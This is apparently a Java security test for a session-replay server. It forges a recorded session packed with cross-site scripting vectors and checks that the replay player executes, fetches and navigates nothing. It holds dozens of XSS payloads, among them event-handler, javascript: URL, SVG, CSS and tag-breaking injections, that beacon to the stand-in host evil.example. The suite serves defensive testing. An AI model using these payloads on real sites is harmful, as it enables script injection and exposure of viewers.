package io.sojourn.server;

import static io.sojourn.server.testing.Forged.document;
import static io.sojourn.server.testing.Forged.html;
import static io.sojourn.server.testing.Forged.mathml;
import static io.sojourn.server.testing.Forged.shadow;
import static io.sojourn.server.testing.Forged.svg;
import static io.sojourn.server.testing.Forged.text;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.ByteString;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.options.WaitForSelectorState;
import com.microsoft.playwright.options.WaitUntilState;
import io.sojourn.eventlog.Id128;
import io.sojourn.eventlog.wire.Batch;
import io.sojourn.eventlog.wire.Event;
import io.sojourn.eventlog.wire.EventList;
import io.sojourn.eventlog.wire.Lane;
import io.sojourn.eventlog.wire.PageView;
import io.sojourn.eventlog.wire.ScriptError;
import io.sojourn.eventlog.wire.Viewport;
import io.sojourn.server.api.Entrance;
import io.sojourn.server.testing.Api;
import io.sojourn.server.testing.AttackersSite;
import io.sojourn.server.testing.Chrome;
import io.sojourn.server.testing.Forged;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/**
 * A site that wants to get at whoever watches: one page of it recorded by the real agent, and one visit forged straight into the
 * intake. The viewer's browser takes every host but ours for the attacker's, whose socket counts who connects.
 */
@TestInstance(Lifecycle.PER_CLASS)
class HostileReplayTest {
    private static final Id128 FORGED = new Id128(6, 6);
    private static final String RUN = "top.ran='forged';new Image().src='http://ran.evil.example/'";

    @TempDir
    static Path data;

    private AttackersSite attacker;
    private Chrome chrome;
    private Assembly server;
    private BrowserContext viewer;
    private Page page;
    private String site;
    private String recorded;
    private int reachedWhenVisited;

    @BeforeAll
    void attack() throws Exception {
        server = Assembly.start(
                new Settings(data, "127.0.0.1", 0, null, Api.TOKEN), InstantSource.system(), Entrance.forDemo());
        server.follow();
        Api api = new Api(server.url());
        attacker = new AttackersSite();
        JsonNode made = api.post(
                "/api/sites",
                "{\"name\": \"Evil\", \"origins\": [\"%s\"], \"consent\": \"not-required\"}"
                        .formatted(attacker.origin()));
        site = made.get("id").asString();
        attacker.serve(resource("attacker.html")
                .replace("<!--snippet-->", made.get("snippet").asString()));
        chrome = new Chrome(attacker.everyHost());
        try (BrowserContext visitor = chrome.visitor(900, 700)) {
            visit(visitor.newPage());
        }
        forge(made.get("key").asString());
        JsonNode both = api.await(
                "/api/sites/" + site + "/sessions?from=0",
                found -> found.get("items").size() == 2
                        && found.get("items").findValuesAsString("hasRecording").stream()
                                .allMatch("true"::equals));
        recorded = both.get("items").findValuesAsString("id").stream()
                .filter(id -> !id.equals(FORGED.toString()))
                .findFirst()
                .orElseThrow();
        viewer = chrome.visitor(1280, 900);
        page = viewer.newPage();
        page.navigate(server.url() + "/enter#" + server.entrance().demoToken());
        page.waitForURL(url -> !url.contains("/enter"));
    }

    @AfterAll
    void close() {
        viewer.close();
        chrome.close();
        attacker.close();
        server.close();
    }

    private void visit(Page visited) {
        // Not until all is loaded: this page sees to it that it never is.
        visited.navigate(attacker.origin() + "/", new Page.NavigateOptions().setWaitUntil(WaitUntilState.COMMIT));
        visited.waitForFunction("() => window.sojourn && sojourn('status').recording === 'on'");
        visited.evaluate("() => later()");
        visited.waitForFunction("() => document.querySelector('b')");
        visited.evaluate("() => { sojourn('record', 'kept'); return sojourn('flush') }");
        visited.waitForFunction("() => sojourn('status').waiting === 0");
        reachedWhenVisited = attacker.connections().size();
        visited.navigate("about:blank");
    }

    @BeforeEach
    void nobodyConnectedYet() {
        page.navigate("about:blank");
        attacker.forget();
    }

    @Test
    void thePageReachesOutWhereItIsVisited() {
        assertThat(reachedWhenVisited).as("or nothing here proves anything").isGreaterThan(20);
        page.navigate("http://anybody.example/");
        assertThat(attacker.connections()).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"recorded", "forged"})
    void nothingOfItRunsLeavesOrIsFetchedInThePlayer(String which) {
        Frame frame = watch(which, "end");
        assertThat(frame.evaluate("() => document.querySelectorAll('a, p, input, svg').length"))
                .as("the page is there, only dead")
                .isInstanceOfSatisfying(
                        Integer.class, found -> assertThat(found).isGreaterThan(3));
        page.keyboard().press("Home");
        page.waitForSelector(
                "html[data-ready='0']", new Page.WaitForSelectorOptions().setState(WaitForSelectorState.ATTACHED));
        page.keyboard().press("End");
        ready();
        pressEverything(frame);
        frame.evaluate("() => new Promise((done) => setTimeout(done, 100))"); // what starts late
        staysWhereItIs();
    }

    @ParameterizedTest
    @ValueSource(strings = {"recorded", "forged"})
    void neitherKeysNorTheMouseFollowARecordedLink(String which) {
        watch(which, "end");
        List<String> focused = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            page.keyboard().press(i % 4 == 3 ? "Shift+Tab" : "Tab");
            focused.add((String) page.evaluate("() => document.activeElement.localName"));
        }
        assertThat(focused).contains("button").doesNotContain("iframe");
        page.keyboard().press("Alt+q");
        var picture = page.locator("iframe[name=page]").boundingBox();
        page.evaluate("() => document.activeElement.blur()");
        for (int x = 1; x < 8; x++) {
            for (int y = 1; y < 8; y++) {
                page.mouse().click(picture.x + picture.width * x / 8, picture.y + picture.height * y / 8);
            }
        }
        page.keyboard().press("Enter");
        staysWhereItIs();
    }

    @ParameterizedTest
    @ValueSource(strings = {"recorded", "forged"})
    void theRebuiltPageByItselfIsAsDead(String which) {
        page.navigate(session(which) + "/page?at=end");
        String address = page.url();
        for (int i = 0; i < 15; i++) {
            page.keyboard().press("Tab");
            page.keyboard().press("Enter");
        }
        pressEverything(page.mainFrame());
        assertThat(page.url()).isEqualTo(address);
        assertThat(attacker.connections()).isEmpty();
    }

    @Test
    void noCookieOfTheConsoleLeavesWithAPictureAndTheFrameHasNone() {
        List<Request> asked = new ArrayList<>();
        viewer.onRequest(asked::add);
        Frame frame = watch("recorded", "end");
        frame.evaluate(
                "at => new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = at })",
                server.url() + "/a/" + "0".repeat(32) + "/" + "1".repeat(32));
        assertThat(cookies(asked, "/a/")).containsExactly("");
        assertThat(cookies(asked, "/api/"))
                .as("whoever asks for the recording is known")
                .doesNotContain("");
        assertThat(frame.evaluate("() => { try { return document.cookie } catch (refused) { return refused.name } }"))
                .isEqualTo("SecurityError");
        assertThat(frame.evaluate("at => fetch(at).then(() => 'answered', () => 'refused')", server.url() + "/api/me"))
                .isEqualTo("refused");
    }

    private static List<String> cookies(List<Request> asked, String path) {
        return asked.stream()
                .filter(request -> URI.create(request.url()).getPath().startsWith(path))
                .map(request -> request.allHeaders().getOrDefault("cookie", ""))
                .toList();
    }

    private Frame watch(String which, String at) {
        String id = which.equals("forged") ? FORGED.toString() : recorded;
        page.navigate(server.url() + "/player?site=" + site + "&session=" + id + "&at=" + at);
        ready();
        return page.frame("page");
    }

    private String session(String which) {
        String id = which.equals("forged") ? FORGED.toString() : recorded;
        return server.url() + "/api/sites/" + site + "/sessions/" + id;
    }

    private void ready() {
        page.waitForSelector(
                "html[data-ready]", new Page.WaitForSelectorOptions().setState(WaitForSelectorState.ATTACHED));
    }

    /** More than any viewer could: from inside the frame. */
    private static void pressEverything(Frame frame) {
        frame.evaluate("""
                () => {
                  const all = (root) => [...root.querySelectorAll('*')].flatMap((element) => [element, ...(element.shadowRoot ? all(element.shadowRoot) : [])])
                  for (const element of all(document)) {
                    for (const type of ['click', 'focus', 'load', 'error', 'toggle', 'mouseover']) element.dispatchEvent(new Event(type, { bubbles: true }))
                    element.focus?.()
                    element.click?.()
                    if (element.localName === 'form') { try { element.requestSubmit() } catch {} element.submit() }
                  }
                }""");
    }

    private void staysWhereItIs() {
        assertThat(page.evaluate("() => 'ran' in window")).isEqualTo(false);
        assertThat(page.frame("page").evaluate("() => 'ran' in window")).isEqualTo(false);
        assertThat(page.url()).startsWith(server.url() + "/player?");
        assertThat(viewer.pages()).as("no window was opened").hasSize(1);
        assertThat(attacker.connections()).isEmpty();
    }

    private static String resource(String name) throws Exception {
        try (InputStream in = HostileReplayTest.class.getResourceAsStream(name)) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static String evil(String name) {
        return "http://" + name + ".evil.example/";
    }

    /** All that a recorder would have left out, and what it could not have met. */
    private static Forged.Tree forgedPage() {
        String css = "@import '" + evil("css") + "'; * { background: url(" + evil("all") + "), image-set('"
                + evil("set") + "' 1x) } </style><script>" + RUN + "</script>";
        Forged.Tree inner = document(
                evil("inner"),
                html("html", List.of(), html("body", List.of("onload", RUN), html("script", List.of(), text(RUN)))));
        Forged.Tree body = html(
                "body",
                List.of("onload", RUN, "background", evil("body"), "style", "background:url(" + evil("style") + ")"),
                html("p", List.of("onclick", RUN, "ONMOUSEOVER", RUN), text("</p><script>" + RUN + "</script>")),
                html("script", List.of("src", evil("script")), text(RUN)),
                html("SCRIPT", List.of("type", "module"), text(RUN)),
                html("a", List.of("href", "javascript:" + RUN, "autofocus", "", "accesskey", "q"), text("one")),
                html("a", List.of("href", "jAva\tscript:" + RUN, "target", "_top"), text("two")),
                html(
                        "a",
                        List.of("data-sojourn-link", evil("link"), "ping", evil("ping"), "target", "_top"),
                        text("3")),
                html("img", List.of("src", evil("img"), "srcset", evil("srcset") + " 2x", "onerror", RUN)),
                html(
                        "img",
                        List.of(
                                "src",
                                "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"" + RUN
                                        + "\"><image href='" + evil("nested") + "'/></svg>")),
                html(
                        "iframe",
                        List.of(
                                "src",
                                evil("iframe"),
                                "srcdoc",
                                "<script>" + RUN + "</script>",
                                "sandbox",
                                "allow-scripts allow-same-origin allow-top-navigation"),
                        inner),
                html("object", List.of("data", evil("object"))),
                html("embed", List.of("src", evil("embed"))),
                html("applet", List.of("code", evil("applet"))),
                html("portal", List.of("src", evil("portal"))),
                html("frameset", List.of("onload", RUN), html("frame", List.of("src", evil("frameset")))),
                html("link", List.of("rel", "stylesheet", "href", evil("sheet"), "=css", css)),
                html("link", List.of("rel", "prefetch", "href", evil("prefetch"))),
                html("link", List.of("rel", "preconnect", "href", evil("preconnect"))),
                html("link", List.of("rel", "import", "href", evil("import"))),
                html("style", List.of("=css", css), text(css)),
                html("meta", List.of("http-equiv", "refresh", "content", "0;url=" + evil("refresh"))),
                html("meta", List.of("http-equiv", "Content-Security-Policy", "content", "script-src *")),
                html("base", List.of("href", evil("base"), "target", "_top")),
                html(
                        "form",
                        List.of("action", evil("form"), "method", "post", "target", "_top", "id", "f"),
                        html("input", List.of("autofocus", "", "onfocus", RUN, "name", "a")),
                        html("input", List.of("type", "image", "src", evil("image"))),
                        html("button", List.of("formaction", "javascript:" + RUN), text("send"))),
                html("button", List.of("form", "f", "formaction", evil("outside")), text("send too")),
                html(
                        "video",
                        List.of("src", evil("video"), "poster", evil("poster"), "autoplay", "", "onplay", RUN),
                        html("source", List.of("src", evil("source"))),
                        html("track", List.of("src", evil("track")))),
                html(
                        "x-evil",
                        List.of("onclick", RUN, "is", "evil"),
                        shadow(
                                html("img", List.of("src", evil("shadow"), "onerror", RUN)),
                                html("style", List.of("=css", css)))),
                html("details", List.of("open", "", "ontoggle", RUN)),
                html("dialog", List.of("=modal", "1"), html("input", List.of("autofocus", "", "onfocus", RUN))),
                html("noscript", List.of(), html("img", List.of("src", evil("noscript")))),
                html("title", List.of(), text("</title><img src=" + evil("title") + " onerror=" + RUN + ">")),
                html("textarea", List.of("=value", "</textarea><script>" + RUN + "</script>")),
                html("\"><img src=x onerror=" + RUN + ">", List.of("\"><script>", RUN)),
                svg(
                        "svg",
                        List.of("onload", RUN),
                        svg("script", List.of("href", evil("svg-script")), text(RUN)),
                        svg("use", List.of("href", evil("use") + "#x")),
                        svg("image", List.of("xlink:href", evil("svg-image"))),
                        svg("feImage", List.of("href", evil("fe"))),
                        svg(
                                "a",
                                List.of("xlink:href", "javascript:" + RUN),
                                text("svg"),
                                svg(
                                        "animate",
                                        List.of(
                                                "attributeName",
                                                "href",
                                                "values",
                                                "javascript:" + RUN,
                                                "begin",
                                                "0s"))),
                        svg("set", List.of("attributeName", "onclick", "to", RUN)),
                        svg(
                                "rect",
                                List.of(
                                        "fill",
                                        "url(" + evil("fill") + "#x)",
                                        "filter",
                                        "url(" + evil("filter") + "#x)")),
                        svg("foreignObject", List.of(), html("iframe", List.of("src", evil("foreign"))))),
                mathml(
                        "math",
                        List.of("href", "javascript:" + RUN),
                        mathml(
                                "maction",
                                List.of("actiontype", "statusline#" + evil("maths"), "xlink:href", evil("mathlink")),
                                text("m"))));
        return document(
                evil("document"),
                html("html", List.of("manifest", evil("manifest"), "onclick", RUN), html("head", List.of()), body));
    }

    private void forge(String key) throws Exception {
        send(
                key,
                Lane.ANALYSIS,
                Event.newBuilder()
                        .setPageView(PageView.newBuilder()
                                .setUrl(attacker.origin() + "/<img src=" + evil("url") + " onerror=" + RUN + ">")
                                .setTitle("<img src=" + evil("name") + " onerror=" + RUN + ">")
                                .setVisible(true))
                        .build(),
                Event.newBuilder()
                        .setAt(900)
                        .setScriptError(ScriptError.newBuilder()
                                .setMessage("<img src=" + evil("message") + " onerror=" + RUN + ">"))
                        .build());
        send(
                key,
                Lane.PLAYBACK,
                Event.newBuilder().setDomOps(Forged.snapshot(forgedPage())).build(),
                Event.newBuilder()
                        .setViewport(Viewport.newBuilder().setWidth(800).setHeight(600))
                        .build(),
                // 2 is the element html, 4 the body: what comes after the picture stood
                Event.newBuilder()
                        .setAt(1_000)
                        .setDomOps(Forged.attribute(4, "onclick", RUN))
                        .build(),
                Event.newBuilder()
                        .setAt(1_100)
                        .setDomOps(Forged.attribute(2, "style", "background:url(" + evil("late") + ")"))
                        .build(),
                Event.newBuilder()
                        .setAt(1_200)
                        .setDomOps(Forged.insert(4, html("iframe", List.of("src", "javascript:" + RUN))))
                        .build());
    }

    private void send(String key, Lane lane, Event... events) throws Exception {
        long now = System.currentTimeMillis();
        byte[] batch = Batch.newBuilder()
                .setSiteKey(key)
                .setVisitorId(new Id128(9, 9).toByteString())
                .setSessionId(FORGED.toByteString())
                .setTabId(ByteString.copyFrom(new byte[8]))
                .setDocumentId(ByteString.copyFrom(new byte[] {8, 7, 6, 5, 4, 3, 2, 1}))
                .setLane(lane)
                .setSentAt(now)
                .setPageStartedAt(now - 6_000)
                .setPayload(EventList.newBuilder()
                        .addAllEvents(List.of(events))
                        .build()
                        .toByteString())
                .build()
                .toByteArray();
        HttpRequest request = HttpRequest.newBuilder(URI.create(server.url() + "/v1/batch"))
                .header("Origin", attacker.origin())
                .POST(HttpRequest.BodyPublishers.ofByteArray(batch))
                .build();
        assertThat(HttpClient.newHttpClient()
                        .send(request, HttpResponse.BodyHandlers.discarding())
                        .statusCode())
                .isEqualTo(204);
    }
}
